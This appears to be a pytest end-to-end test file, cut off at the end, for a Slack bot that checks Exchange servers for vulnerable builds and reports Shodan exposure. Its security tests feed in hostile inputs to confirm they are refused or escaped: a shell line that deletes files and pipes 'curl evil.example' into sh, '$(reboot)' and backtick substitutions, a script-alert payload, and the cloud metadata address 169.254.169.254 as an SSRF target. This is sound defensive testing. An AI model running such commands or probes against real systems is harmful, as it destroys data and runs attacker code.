"""The Slack app end to end: real signed HTTP requests to the Bolt app under waitress, the fake Slack
Web API driven by the real slack_sdk client, results captured at fake response_urls, checks against
the HTTPS Exchange simulator and exposure from the fake Shodan (see tests.slack_harness.py)."""

from __future__ import annotations

import datetime as dt
import json
import os
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest

from bot.probe.targets import Target
from bot.probe.verdict import failed_result
from bot.ratelimit import per_user_limiter
from bot.render.blocks import (
    CHECK_HOST,
    HOME_PAGE,
    HOST_MENU,
    RECHECK,
    SHARE,
    SHOW_EVIDENCE,
    WATCH_ADD,
    WATCH_PAGE,
    WATCH_REMOVE,
)
from bot.render.check_modal import CALLBACK_ID, HOST_ACTION, HOST_BLOCK
from bot.slack.workers import JobRunner
from tests.fakes.exchange_sim import ExchangeSimulator
from tests.fakes.shodan_api import FakeShodan, make_population
from tests.fakes.slack_api import FakeSlack
from tests.slack_harness import PROXY_VARS, SlackHarness, catalog, until

# Shodan population for /exposure (verdicts per build as in tests/test_exposure_e2e.py):
#   15.1.2507 2016 CU23: EOL, ProxyNotShell cannot tell, rest patched
#   15.2.2562 SE RTM: supported, all patched
#   15.1.225  2016 RTM: EOL, all four vulnerable
#   15.0.516  2013 RTM: EOL (US, so not in eu)
POPULATION = [
    {"country": "DE", "build": "15.1.2507.39", "signal": "path", "count": 3},
    {"country": "DE", "build": "15.2.2562.17", "signal": "path", "count": 2},
    {"country": "FR", "build": "15.1.225.42", "signal": "path", "count": 1},
    {"country": "US", "build": "15.0.516.32", "signal": "path", "count": 4},
]


@pytest.fixture(scope="module", autouse=True)
def no_proxy() -> Iterator[None]:
    # slack_sdk honours *_PROXY (not NO_PROXY): a proxy variable would send loopback traffic away.
    saved = {k: os.environ.pop(k) for k in PROXY_VARS if k in os.environ}
    yield
    os.environ.update(saved)


@pytest.fixture(scope="module")
def slack() -> Iterator[FakeSlack]:
    with FakeSlack() as f:
        yield f


@pytest.fixture(scope="module")
def sim() -> Iterator[ExchangeSimulator]:
    with ExchangeSimulator(default="not_exchange") as s:
        yield s


@pytest.fixture(scope="module")
def shodan() -> Iterator[FakeShodan]:
    with FakeShodan(make_population(POPULATION), hang_max=5) as f:
        yield f


@pytest.fixture()
def fake(slack: FakeSlack) -> Iterator[FakeSlack]:
    """The shared fake, cleared per test; afterwards: nothing the app sent broke Slack's rules."""
    slack.clear()
    slack.clear_faults()
    yield slack
    for call in slack.calls:
        assert "link_names" not in call.params, call.method
        if call.method in ("response_url", "chat.postEphemeral", "chat.postMessage") and call.params.get("blocks"):
            assert call.params.get("text"), f"{call.method} without a text fallback"
    assert [w for w in slack.warnings if w[1] == "missing_text_in_blocks"] == []
    slack.clear_faults()


@pytest.fixture()
def make(
    fake: FakeSlack, sim: ExchangeSimulator, shodan: FakeShodan, tmp_path: Path
) -> Iterator[Callable[..., SlackHarness]]:
    made: list[SlackHarness] = []

    def build(**kw: Any) -> SlackHarness:
        kw.setdefault("shodan_url", shodan.url)
        h = SlackHarness(fake, tmp_path / f"exchbot{len(made)}.db", sim_port=sim.port, **kw)
        made.append(h)
        return h

    yield build
    for h in made:
        h.close()


@pytest.fixture()
def app(make: Callable[..., SlackHarness]) -> SlackHarness:
    return make()


def dump(payload: Any) -> str:
    return json.dumps(payload, ensure_ascii=False)


def texts(payload: Any) -> list[str]:
    """Every string in a JSON-like payload."""
    if isinstance(payload, str):
        return [payload]
    if isinstance(payload, dict):
        return [s for v in payload.values() for s in texts(v)]
    if isinstance(payload, list):
        return [s for v in payload for s in texts(v)]
    return []


def field(card: dict[str, Any], title: str) -> str:
    """The text of the card field that starts with ``*title*``."""
    for block in card["blocks"]:
        for f in block.get("fields", []):
            if f["text"].startswith(f"*{title}*\n"):
                return str(f["text"].split("\n", 1)[1])
    raise AssertionError(f"no field {title!r} in {[b.get('type') for b in card['blocks']]}")


def buttons(card: dict[str, Any]) -> dict[str, str]:
    return {e["action_id"]: e["value"] for b in card["blocks"] if b["type"] == "actions" for e in b["elements"]}


# --------------------------------------------------------------------------------------------- /exchcheck


def test_exchcheck_acks_at_once_then_the_card_replaces_the_ack(app: SlackHarness, fake: FakeSlack) -> None:
    host = app.host("exchange2016_cu22_nov21su")
    ack, name = app.command("/exchcheck", host)
    assert ack.status == 200
    body = ack.json()
    assert body["response_type"] == "ephemeral" and body["text"] == f"Checking {host}…"
    card = app.final(name)
    assert card["replace_original"] is True and card["response_type"] == "ephemeral"
    assert card["unfurl_links"] is False and card["unfurl_media"] is False
    # Exchange 2016 CU22 Nov21SU (15.1.2375.17): end of life, ProxyNotShell open, the 2021 families patched
    assert "15.1.2375.17" in card["text"] and "end of life" in card["text"] and "ProxyNotShell" in card["text"]
    assert card["blocks"][0] == {
        "type": "header",
        "text": {"type": "plain_text", "emoji": True, "text": f"Exchange check: {host}"},
    }
    assert "end of life" in field(card, "End of life")
    assert field(card, "ProxyNotShell") == ":red_circle: *vulnerable*"
    assert field(card, "ProxyShell") == ":large_green_circle: patched"
    assert field(card, "Confidence").startswith("high")
    assert field(card, "Build") == "`15.1.2375.17`"
    assert (field(card, "Product"), field(card, "CU"), field(card, "Update")) == ("Exchange 2016", "CU22", "Nov21SU")
    assert "first check of this host" in dump(card)
    assert any("*Advice*" in t for t in texts(card)) and any("*Evidence*" in t for t in texts(card))
    assert buttons(card) == {RECHECK: host, SHOW_EVIDENCE: host, SHARE: host, WATCH_ADD: host}
    assert [(r["command"], r["text"], r["outcome"], r["user_id"], r["channel_id"]) for r in app.audit_rows(1)] == [
        ("/exchcheck", host, "accepted", "U0ALICE", "C0INCIDENT")
    ]
    (stored,) = app.store.history(host)
    assert stored.build == "15.1.2375.17" and stored.families["ProxyNotShell"] == "vulnerable"


def test_hostile_header_values_are_escaped_and_ping_nobody(app: SlackHarness) -> None:
    ack, name = app.command("/exchcheck", app.host("header_injection"))
    assert ack.status == 200
    card = app.final(name)
    every = texts(card)
    assert not any("<" in t or ">" in t for t in every), "raw < or > reached Slack"
    # the full evidence comes behind "Show evidence", escaped the same way
    ack, shown = app.click(SHOW_EVIDENCE, buttons(card)[SHOW_EVIDENCE])
    assert ack.status == 200
    evidence = app.final(shown)
    assert evidence["replace_original"] is False  # below the card, which stays
    assert not any("<" in t or ">" in t for t in texts(evidence)), "raw < or > reached Slack"
    dumped = dump(card) + dump(evidence)
    assert "&lt;!channel&gt;" in dumped and "&lt;@U123&gt;" in dumped
    assert "&amp;lt;script&amp;gt;" in dumped  # the entity the server sent is shown, not decoded


def test_a_second_check_says_what_changed(app: SlackHarness) -> None:
    host = app.host("exchange_se_current")
    first = app.final(app.command("/exchcheck", host)[1])
    second = app.final(app.command("/exchcheck", host)[1])
    assert "first check of this host" in dump(first)
    assert "*Since the last check*" in dump(second) and "no change" in dump(second)
    assert len(app.store.history(host)) == 2


def test_slack_links_are_unwrapped(app: SlackHarness) -> None:
    host = app.host("exchange_se_current")
    ack, name = app.command("/exchcheck", f"<http://{host}|{host}>")
    assert ack.json()["text"] == f"Checking {host}…"
    assert "15.2.2562.53" in app.final(name)["text"]


def test_checks_from_slack_obey_the_ssrf_guard(make: Callable[..., SlackHarness]) -> None:
    app = make(allow_private=False)
    for target in ("127.0.0.1", "169.254.169.254", app.host("exchange_se_current")):
        ack, name = app.command("/exchcheck", target)
        assert ack.status == 200
        card = app.final(name)
        assert "refused" in card["text"], card["text"]
        assert card["blocks"][1]["text"]["text"].startswith(":no_entry: *Not checked:* refused:")
        flat = dump(card)
        assert "EXCHBOT_ALLOW_PRIVATE" in flat and "--allow-private" not in flat  # Slack users have no flags
        assert f"{target} resolves to {target}" not in flat  # an IP literal is not "resolved"
        assert flat.lower().count("could not check") <= 1  # the fallback text only
        assert RECHECK in buttons(card)


# --------------------------------------------------------------------------------------------- buttons


def test_recheck_button_runs_a_fresh_check_and_replaces_the_card(app: SlackHarness, fake: FakeSlack) -> None:
    host = app.host("exchange2019_cu14_f5")
    card = app.final(app.command("/exchcheck", host)[1])
    ack, name = app.click(RECHECK, buttons(card)[RECHECK])
    assert (ack.status, ack.body) == (200, "")
    pending, fresh = app.fake.wait_for_responses(name, count=2, timeout=15)
    assert pending["replace_original"] is True and pending["text"] == f"Re-checking {host}…"
    assert fresh["replace_original"] is True and "15.2.1544.11" in fresh["text"]
    assert "*Since the last check*" in dump(fresh)
    assert len(app.store.history(host)) == 2
    assert app.audit_rows(2)[-1]["command"] == f"button:{RECHECK}"


def test_add_to_watchlist_button(app: SlackHarness) -> None:
    host = app.host("exchange_se_current")
    card = app.final(app.command("/exchcheck", host)[1])
    ack, name = app.click(WATCH_ADD, buttons(card)[WATCH_ADD], user="U0BOB")
    assert ack.status == 200
    answer = app.final(name)
    assert answer["replace_original"] is False  # the card stays; a confirmation appears below it
    assert "Watching" in answer["text"] and host in answer["text"]
    (watched,) = app.store.watchlist()
    assert (watched.host, watched.added_by, watched.channel) == (host, "slack:U0BOB", "C0INCIDENT")
    again = app.final(app.click(WATCH_ADD, host)[1])
    assert "already on the watchlist" in again["text"]


def test_a_forged_button_value_is_refused(app: SlackHarness) -> None:
    ack, name = app.click(RECHECK, "$(reboot); <!channel>")
    assert ack.status == 200
    answer = app.final(name)
    assert "no valid host" in answer["text"] and answer["replace_original"] is False
    assert not any("<" in t for t in texts(answer))
    assert app.store.history("$(reboot)") == []


# --------------------------------------------------------------------------------------------- /exposure


def test_exposure_answers_from_shodan(app: SlackHarness, shodan: FakeShodan) -> None:
    ack, name = app.command("/exposure", "eu")
    assert ack.status == 200 and "Counting Exchange servers in eu" in ack.json()["text"]
    card = app.final(name, timeout=30)
    # eu = DE 3 + 2, FR 1: 2016 x4 (EOL), SE x2; the RTM server is certainly vulnerable to all four
    assert field(card, "Total") == "6"
    assert field(card, "End of life") == "4"
    assert field(card, "At risk (end of life or vulnerable)") == "4"
    dumped = dump(card)
    assert "• *ProxyNotShell*: 1 vulnerable, 3 cannot tell from the build" in dumped
    assert "• *ProxyLogon*: 1 vulnerable, 0 cannot tell from the build" in dumped
    assert "• Exchange 2016: 4" in dumped and "• Exchange SE: 2" in dumped
    assert "Data: Shodan" in dumped and "new snapshot" in dumped
    assert card["text"].startswith("Exchange exposure eu: 6 banners")
    again = app.final(app.command("/exposure", "de, fr")[1], timeout=30)
    assert field(again, "Total") == "6" and "stored snapshot" in dump(again)


def test_exposure_chart_on_request_is_uploaded_to_the_channel(
    app: SlackHarness, fake: FakeSlack, shodan: FakeShodan
) -> None:
    ack, name = app.command("/exposure", "eu chart", channel="C0CHARTS")
    assert ack.status == 200 and "trend chart" in ack.json()["text"]
    card = app.final(name, timeout=30)
    assert field(card, "Total") == "6"
    upload = fake.wait_for(lambda: [u for u in fake.uploads if u.completed], timeout=15)[0]
    assert upload.channel == "C0CHARTS" and (upload.data or b"")[:8] == b"\x89PNG\r\n\x1a\n"
    assert upload.filename == "exchbot-exposure-eu.png"
    assert "posted in <#C0CHARTS>" in dump(card)  # the ephemeral card says where the public chart went
    assert upload.title is not None and upload.title.endswith("(one snapshot so far)")


def test_exposure_failure_is_a_message_not_a_crash(make: Callable[..., SlackHarness]) -> None:
    app = make(shodan_api_key=None)
    card = app.final(app.command("/exposure", "us")[1])
    assert "Could not get the exposure of us" in card["text"] and "SHODAN_API_KEY" in card["text"]


def test_exposure_usage(app: SlackHarness) -> None:
    ack, _ = app.command("/exposure", "atlantis")
    assert ack.status == 200 and "atlantis" in ack.json()["text"]
    assert app.audit_rows(1)[-1]["outcome"] == "usage:region"


# --------------------------------------------------------------------------------------------- /exchwatch


def test_exchwatch_add_list_remove(app: SlackHarness) -> None:
    host = app.host("exchange2016_cu22_nov21su")
    app.final(app.command("/exchcheck", host)[1])
    added = app.final(app.command("/exchwatch", f"add {host}")[1])
    assert "Watching" in added["text"]
    listed = app.final(app.command("/exchwatch", "list")[1])
    assert listed["text"] == "Watchlist: 1 hosts, 1 at risk, 1 with known-exploited CVEs"
    line = dump(listed)
    assert host in line and "*EOL*" in line and "vulnerable: ProxyNotShell" in line
    removed = app.final(app.command("/exchwatch", f"remove {host}")[1])
    assert "Stopped watching" in removed["text"]
    assert app.final(app.command("/exchwatch", "list")[1])["text"] == "The watchlist is empty."
    gone = app.final(app.command("/exchwatch", f"rm {host}")[1])
    assert "was not on the watchlist" in gone["text"]


@pytest.mark.parametrize(("command", "text"), [("/exchcheck", "help"), ("/exchwatch", ""), ("/exposure", "help")])
def test_help(app: SlackHarness, fake: FakeSlack, command: str, text: str) -> None:
    ack, name = app.command(command, text)
    body = ack.json()
    assert ack.status == 200 and body["response_type"] == "ephemeral"
    assert "exchbot help" in body["text"] and command in dump(body["blocks"])
    assert app.audit_rows(1)[-1]["outcome"] == "help"
    assert fake.responses(name) == []  # answered in the acknowledgement itself


# --------------------------------------------------------------------------------------------- App Home


def test_app_home_shows_the_watchlist(app: SlackHarness, fake: FakeSlack) -> None:
    host = app.host("exchange_se_current")
    app.final(app.command("/exchcheck", host)[1])
    app.final(app.command("/exchwatch", f"add {host}")[1])
    reply = app.event(
        {
            "type": "app_home_opened",
            "user": "U0ALICE",
            "channel": "D0ALICE",
            "tab": "home",
            "event_ts": f"{time.time():.6f}",
        }
    )
    assert reply.status == 200
    (call,) = fake.wait_for_calls("views.publish")
    assert call.ok and call.params["user_id"] == "U0ALICE"
    view = fake.home_views["U0ALICE"]
    dumped = dump(view["blocks"])
    assert host in dumped and "Exchange SE RTM Sep26SUv2" in dumped and "checked 20" in dumped


# --------------------------------------------------------------------------------------------- security


def test_forged_and_stale_signatures_are_rejected_and_do_nothing(
    app: SlackHarness, fake: FakeSlack, sim: ExchangeSimulator
) -> None:
    sim.reset()
    host = app.host("exchange_se_current")
    forged, n1 = app.command("/exchcheck", host, secret="not-the-secret")
    stale, n2 = app.command("/exchcheck", host, timestamp=str(int(time.time()) - 6 * 60))
    future, n3 = app.command("/exchcheck", host, timestamp=str(int(time.time()) + 6 * 60))
    unsigned, n4 = app.command("/exchcheck", host, signed=False)
    click, n5 = app.click(RECHECK, host, secret="not-the-secret")
    assert [r.status for r in (forged, stale, future, unsigned, click)] == [401] * 5
    fresh, n6 = app.command("/exchcheck", host)  # the same request, signed properly, works
    assert fresh.status == 200
    app.final(n6)
    assert all(fake.responses(n) == [] for n in (n1, n2, n3, n4, n5))
    assert [r["outcome"] for r in app.audit_rows(1)] == ["accepted"]
    assert len(app.store.history(host)) == 1  # only the properly signed request checked the host
    assert {r.host.split(":")[0] for r in sim.requests} == {"exchange-se-current.sim.test"}


def test_other_paths(app: SlackHarness) -> None:
    assert (app.request("GET", "/healthz").status, app.request("GET", "/healthz").body) == (200, "ok")
    assert app.request("GET", "/slack/events").status == 404
    assert app.request("POST", "/elsewhere", b"x", {"Content-Type": "text/plain"}).status == 404
    assert app.command("/unknowncmd", "x")[0].status == 404


def test_allowlists(make: Callable[..., SlackHarness], fake: FakeSlack) -> None:
    app = make(allowed_channels=frozenset({"C0ALLOWED"}), allowed_users=frozenset({"U0ALICE", "U0BOB"}))
    host = app.host("exchange_se_current")
    wrong_channel, n1 = app.command("/exchcheck", host, channel="C0RANDOM")
    wrong_user, n2 = app.command("/exchcheck", host, user="U0MALLORY", channel="C0ALLOWED")
    dm, n3 = app.command("/exchcheck", host, channel="D0ALICE")
    assert "not enabled in this channel" in wrong_channel.json()["text"]
    assert "restricted to a list of users" in wrong_user.json()["text"]
    assert "not enabled in this channel" in dm.json()["text"]
    click, n4 = app.click(RECHECK, host, user="U0MALLORY", channel="C0ALLOWED")
    assert click.status == 200 and "restricted" in app.final(n4)["text"]
    ok, n5 = app.command("/exchcheck", host, channel="C0ALLOWED")
    assert ok.status == 200 and "15.2.2562.53" in app.final(n5)["text"]
    assert sorted(r["outcome"] for r in app.audit_rows(5)) == ["accepted"] + ["denied"] * 4  # written after acks
    assert all(fake.responses(n) == [] for n in (n1, n2, n3))
    assert app.store.history(host) and len(app.store.history(host)) == 1


def test_oauth_variables_cannot_switch_the_app_to_oauth(
    make: Callable[..., SlackHarness], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SLACK_CLIENT_ID", "111.222")
    monkeypatch.setenv("SLACK_CLIENT_SECRET", "client-secret")
    app = make()
    assert app.app.oauth_flow is None and app.app.installation_store is None
    assert os.environ["SLACK_CLIENT_ID"] == "111.222"  # restored for whoever else reads them
    assert app.command("/exchcheck", "help")[0].status == 200


# --------------------------------------------------------------------------------------------- limits


def test_rate_limit_per_user(make: Callable[..., SlackHarness]) -> None:
    now = [1000.0]
    app = make(limiter=per_user_limiter(2, clock=lambda: now[0]), user_rate_per_minute=2)
    host = app.host("exchange_se_current")
    first = [app.command("/exchcheck", host)[0] for _ in range(2)]
    third, n3 = app.command("/exchcheck", host)
    assert all(r.json()["text"].startswith("Checking") for r in first)
    assert "at most 2 requests a minute" in third.json()["text"] and "30 s" in third.json()["text"]
    other, _ = app.command("/exchcheck", host, user="U0BOB")
    assert other.json()["text"].startswith("Checking")
    now[0] += 30
    assert app.command("/exchcheck", host)[0].json()["text"].startswith("Checking")
    assert [r["outcome"] for r in app.audit_rows(5)].count("rate_limited") == 1
    assert app.fake.responses(n3) == []


def test_busy_when_every_worker_and_queue_slot_is_taken(make: Callable[..., SlackHarness]) -> None:
    release = threading.Event()
    started = threading.Event()
    cat = catalog()

    def slow(target: Target, requested_by: str) -> Any:
        started.set()
        release.wait(10)
        return failed_result(target.raw, target.key, dt.datetime.now(dt.UTC), "could not check: timed out", cat)

    app = make(check=slow, jobs=JobRunner(1, 0))
    a, n1 = app.command("/exchcheck", "mail.example.com")
    assert started.wait(5)
    b, n2 = app.command("/exchcheck", "mail2.example.com")
    assert a.json()["text"].startswith("Checking")
    assert b.json()["text"] == "exchbot is busy, try again in a minute."
    release.set()
    assert "could not check: timed out" in app.final(n1)["text"]
    assert app.fake.responses(n2) == []  # refused work sends nothing later
    assert until(lambda: app.deps.jobs.pending == 0)
    c, n3 = app.command("/exchcheck", "mail2.example.com")
    assert c.json()["text"].startswith("Checking") and app.final(n3)
    assert sorted(r["outcome"] for r in app.audit_rows(3)) == ["accepted", "accepted", "busy"]


@pytest.mark.parametrize("status", [404, 500])
def test_a_failing_response_url_falls_back_to_an_ephemeral_post(
    app: SlackHarness, fake: FakeSlack, status: int
) -> None:
    name = f"broken{status}"
    fake.response_url(name)
    fake.response_url_status(name, status)
    app.command("/exchcheck", app.host("exchange_se_current"), name=name)
    (post,) = fake.wait_for_calls("chat.postEphemeral", timeout=15)
    assert post.ok and post.params["channel"] == "C0INCIDENT" and post.params["user"] == "U0ALICE"
    assert "15.2.2562.53" in post.params["text"] and post.params["blocks"]
    assert [c.status for c in fake.calls_to("response_url")] == [status]


def test_the_app_keeps_serving_when_nothing_can_be_delivered(app: SlackHarness, fake: FakeSlack) -> None:
    fake.response_url("dead")
    fake.response_url_status("dead", 404)
    fake.fail_always("chat.postEphemeral", "channel_not_found")
    app.command("/exchcheck", app.host("exchange_se_current"), name="dead")
    fake.wait_for_calls("chat.postEphemeral", timeout=15)
    fake.clear_faults()
    ack, name = app.command("/exchcheck", app.host("exchange_se_current"))
    assert ack.status == 200 and "15.2.2562.53" in app.final(name)["text"]


MALFORMED = {
    "empty": "",
    "blank": "   ",
    "5000 characters": "a" * 5000,
    "shell metacharacters": "mail.example.com; rm -rf / && curl evil.example | sh",
    "command substitution": "$(reboot)",
    "backticks": "`id`",
    "user mention": "<@U0123ABC|alice>",
    "channel broadcast": "<!channel>",
    "here broadcast": "<!here>",
    "channel link": "<#C0123ABC|general>",
    "e-mail without a name": "<mailto:@example.com|@example.com>",
    "plain http URL": "<http://mail.example.com>",
    "html": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "control characters": "mail.example.com\x00\x1b[31m",
    "bad port": "mail.example.com:99999",
    "credentials": "<https://user:pw@mail.example.com>",
}


def test_malformed_text_gets_a_helpful_message_and_the_app_keeps_serving(app: SlackHarness, fake: FakeSlack) -> None:
    names = []
    for label, text in MALFORMED.items():
        ack, name = app.command("/exchcheck", text)
        names.append(name)
        assert ack.status == 200, label
        body = ack.json()
        assert body["response_type"] == "ephemeral" and body["text"].startswith("/exchcheck: "), (label, body)
        assert "For example" in dump(body["blocks"]), label
        assert len(ack.body) < 3000, label  # 5,000 characters are not echoed back
        assert not any("<" in t or ">" in t for t in texts(body)), label
    for command in ("/exposure", "/exchwatch"):
        for text in ("a" * 5000, "<!channel>", "add $(reboot)", "<@U0123ABC>"):
            ack, name = app.command(command, text)
            names.append(name)
            assert ack.status == 200 and ack.json()["text"].startswith(f"{command}: "), (command, text)
    assert all(r["outcome"].startswith("usage:") for r in app.audit_rows(len(MALFORMED) + 8))
    assert len(app.audit_rows()) == len(MALFORMED) + 8
    ok, name = app.command("/exchcheck", app.host("exchange_se_current"))
    assert ok.status == 200 and "15.2.2562.53" in app.final(name)["text"]
    assert all(fake.responses(n) == [] for n in names)


def test_forty_simultaneous_commands_are_all_acknowledged_in_time(app: SlackHarness, fake: FakeSlack) -> None:
    profiles = ["exchange_se_current", "exchange2016_cu22_nov21su", "exchange2019_cu14_f5", "header_injection"]
    barrier = threading.Barrier(40)
    acks: dict[int, tuple[int, float, str]] = {}

    def one(i: int) -> None:
        barrier.wait(10)
        reply, name = app.command("/exchcheck", app.host(profiles[i % 4]), user=f"U0USER{i:03d}")
        acks[i] = (reply.status, reply.elapsed, name)

    threads = [threading.Thread(target=one, args=(i,)) for i in range(40)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(30)
    assert len(acks) == 40 and all(status == 200 for status, _, _ in acks.values())
    slowest = max(elapsed for _, elapsed, _ in acks.values())
    assert slowest < 3.0, f"slowest acknowledgement {slowest:.2f} s"  # Slack's budget, generously above normal
    finals = {i: app.final(name, timeout=60) for i, (_, _, name) in acks.items()}
    assert all(card["replace_original"] and "Exchange" in card["text"] for card in finals.values())
    assert all(app.host(profiles[i % 4]) in finals[i]["text"] for i in finals)
    assert [r["outcome"] for r in app.audit_rows(40)].count("accepted") == 40


def test_app_home_of_a_user_outside_the_allowlist(make: Callable[..., SlackHarness], fake: FakeSlack) -> None:
    app = make(allowed_users=frozenset({"U0ALICE"}))
    assert app.event({"type": "app_home_opened", "user": "U0MALLORY", "tab": "home"}).status == 200
    fake.wait_for_calls("views.publish")
    assert "restricted to a list of users" in dump(fake.home_views["U0MALLORY"]["blocks"])
    assert [(r["command"], r["user_id"]) for r in app.audit_rows(1)] == [("app_home_opened", "U0MALLORY")]


def test_a_crashing_job_still_answers(make: Callable[..., SlackHarness]) -> None:
    def broken(target: Target, requested_by: str) -> Any:
        raise RuntimeError("boom")

    app = make(check=broken)
    card = app.final(app.command("/exchcheck", "mail.example.com")[1])
    assert "Something went wrong on exchbot's side" in card["text"] and "boom" not in dump(card)
    assert app.command("/exchcheck", "help")[0].status == 200


# --------------------------------------------------------------------------------------------- answers people act on


def raw_click(app: SlackHarness, action: dict[str, Any], *, container: dict[str, Any], response: str | None) -> Any:
    """A block_actions payload with a free-form action and container (overflow menus, App Home, threads)."""
    payload: dict[str, Any] = {
        "type": "block_actions",
        "api_app_id": app.fake.app_id,
        "token": "legacy-verification-token",
        "user": {"id": "U0ALICE", "username": "u0alice", "name": "u0alice", "team_id": "T0EXCHBOT"},
        "team": {"id": "T0EXCHBOT", "domain": "exchbot-test"},
        "container": container,
        "trigger_id": "1337.44.x",
        "actions": [{"block_id": "b", "type": "button", "action_ts": "1700000001.000200", **action}],
    }
    if response is not None:
        payload["response_url"] = app.fake.response_url(response)
    if container.get("channel_id"):
        payload["channel"] = {"id": container["channel_id"], "name": "incident"}
    return app.post(urlencode({"payload": json.dumps(payload)}).encode(), "application/x-www-form-urlencoded")


def test_share_in_channel_posts_the_answer_visibly_in_the_thread(app: SlackHarness, fake: FakeSlack) -> None:
    host = app.host("exchange2016_cu22_nov21su")
    card = app.final(app.command("/exchcheck", host)[1])
    container = {
        "type": "message",
        "message_ts": "1700000000.000100",
        "channel_id": "C0INCIDENT",
        "is_ephemeral": True,
        "thread_ts": "1700000000.000050",
    }
    reply = raw_click(app, {"action_id": SHARE, "value": buttons(card)[SHARE]}, container=container, response="share")
    assert reply.status == 200
    (post,) = fake.wait_for_calls("chat.postMessage")
    assert post.ok and post.params["channel"] == "C0INCIDENT" and post.params["thread_ts"] == "1700000000.000050"
    shared = fake.messages("C0INCIDENT")[-1]
    text = dump(shared)
    stored = app.store.latest_result(host)
    assert stored is not None
    assert f"{stored['vulnerable_count']} CVEs ({len(stored['kev'])} KEV)" in text
    assert all(k in text for k in stored["kev"]) and "<@U0ALICE>" in text
    confirm = app.final("share")
    assert confirm["replace_original"] is False and "in this thread" in confirm["text"]


def test_share_where_the_bot_is_not_a_member_says_so(app: SlackHarness, fake: FakeSlack) -> None:
    fake.add_channel("C0OUTSIDE", "outside", is_member=False)
    host = app.host("exchange_se_current")
    app.final(app.command("/exchcheck", host, channel="C0OUTSIDE")[1])
    _ack, name = app.click(SHARE, host, channel="C0OUTSIDE")
    assert "/invite" in app.final(name)["text"]


def test_watch_button_reflects_state_and_remove_works(app: SlackHarness) -> None:
    host = app.host("exchange2016_cu22_nov21su")
    first = app.final(app.command("/exchcheck", host)[1])
    assert WATCH_ADD in buttons(first) and WATCH_REMOVE not in buttons(first)
    _ack, name = app.click(WATCH_ADD, host)
    assert "Watching" in app.final(name)["text"]
    again = app.final(app.command("/exchcheck", host)[1])
    assert buttons(again).get(WATCH_REMOVE) == host and WATCH_ADD not in buttons(again)
    assert any(
        e["text"]["text"] == "Watched ✓ · Remove"
        for b in again["blocks"]
        if b["type"] == "actions"
        for e in b["elements"]
    )
    _ack, name = app.click(WATCH_REMOVE, host)
    assert "Stopped watching" in app.final(name)["text"]
    assert app.store.watchlist() == []
    other = app.final(app.command("/exchcheck", app.host("not_exchange"))[1])
    assert WATCH_ADD not in buttons(other) and WATCH_REMOVE not in buttons(other)


def _watch_many(app: SlackHarness, n: int) -> None:
    now = dt.datetime.now(dt.UTC)
    for i in range(n):
        app.store.watch_add(f"h{i:03d}.example.com", f"h{i:03d}.example.com", now, added_by="test")


def test_watchlist_pages_through_the_real_app(app: SlackHarness, fake: FakeSlack) -> None:
    _watch_many(app, 70)
    listed = app.final(app.command("/exchwatch", "list")[1])
    assert "70" in listed["blocks"][1]["text"]["text"]
    assert buttons(listed)[WATCH_PAGE] == "2"
    _ack, name = app.click(WATCH_PAGE, "2")
    page2 = app.final(name)
    assert page2["replace_original"] is True and "Hosts 21–40 of 70" in dump(page2)
    typed = app.final(app.command("/exchwatch", "list 4")[1])
    assert "Hosts 61–70 of 70" in dump(typed)
    for msg in (listed, page2, typed):
        assert len(msg["blocks"]) <= 50
    # the menu beside a host removes it
    menu = {"action_id": HOST_MENU, "type": "overflow", "selected_option": {"value": "remove|h005.example.com"}}
    raw_click(app, menu, container={"type": "message", "channel_id": "C0INCIDENT", "is_ephemeral": True}, response="m")
    assert "Stopped watching" in app.final("m")["text"]
    assert len(app.store.watchlist()) == 69


def test_app_home_pages_and_check_a_host_from_the_home(app: SlackHarness, fake: FakeSlack) -> None:
    _watch_many(app, 65)
    app.event({"type": "app_home_opened", "user": "U0ALICE", "channel": "D0ALICE", "tab": "home", "event_ts": "1.0"})
    fake.wait_for_calls("views.publish")
    view = fake.home_views["U0ALICE"]
    assert len(view["blocks"]) <= 100 and "*65* hosts" in dump(view)
    assert "25 more" in dump(view)
    home = {"type": "view", "view_id": "V0HOME"}
    raw_click(app, {"action_id": HOME_PAGE, "value": "2"}, container=home, response=None)
    until(lambda: "Hosts 41–65 of 65" in dump(fake.home_views["U0ALICE"]))
    assert "Hosts 41–65 of 65" in dump(fake.home_views["U0ALICE"])
    raw_click(app, {"action_id": CHECK_HOST, "value": "check"}, container=home, response=None)
    fake.wait_for_calls("views.open")
    (modal,) = fake.modals
    assert modal["callback_id"] == CALLBACK_ID and modal["trigger_id"] == "1337.44.x"
    assert modal["private_metadata"] == "{}"  # from the App Home: nowhere to answer but a direct message
    host = app.host("exchange2016_cu22_nov21su")
    done = submit_modal(app, host, modal["private_metadata"])
    assert done.status == 200 and done.body == ""  # an empty answer closes the modal
    (dm,) = fake.wait_for_calls("chat.postMessage", timeout=15)
    assert dm.params["channel"] == "U0ALICE" and "15.1.2375.17" in dump(dm.params)
    stored = app.store.latest_result(host)
    assert stored is not None and stored["build"] == "15.1.2375.17"
    rows = app.audit_rows(at_least=1)
    assert any(r["command"] == "modal:check" and r["outcome"] == "accepted" and r["text"] == host for r in rows)


def submit_modal(app: SlackHarness, text: str, metadata: str, *, view: dict[str, Any] | None = None) -> Any:
    """A view_submission of the "Check a host…" modal, as Slack sends it."""
    payload = {
        "type": "view_submission",
        "api_app_id": app.fake.app_id,
        "token": "legacy-verification-token",
        "team": {"id": "T0EXCHBOT", "domain": "exchbot-test"},
        "user": {"id": "U0ALICE", "username": "u0alice", "name": "u0alice", "team_id": "T0EXCHBOT"},
        "trigger_id": "1337.45.y",
        "view": view
        or {
            "id": "V0MODAL",
            "type": "modal",
            "callback_id": CALLBACK_ID,
            "private_metadata": metadata,
            "state": {"values": {HOST_BLOCK: {HOST_ACTION: {"type": "plain_text_input", "value": text}}}},
        },
        "response_urls": [],
    }
    return app.post(urlencode({"payload": json.dumps(payload)}).encode(), "application/x-www-form-urlencoded")


def test_check_a_host_from_the_watchlist_card_answers_in_its_channel(app: SlackHarness, fake: FakeSlack) -> None:
    card = {"type": "message", "channel_id": "C0INCIDENT", "is_ephemeral": True, "message_ts": "1700000000.000100"}
    raw_click(app, {"action_id": CHECK_HOST, "value": "check"}, container=card, response="w")
    fake.wait_for_calls("views.open")
    (modal,) = fake.modals
    where = json.loads(modal["private_metadata"])
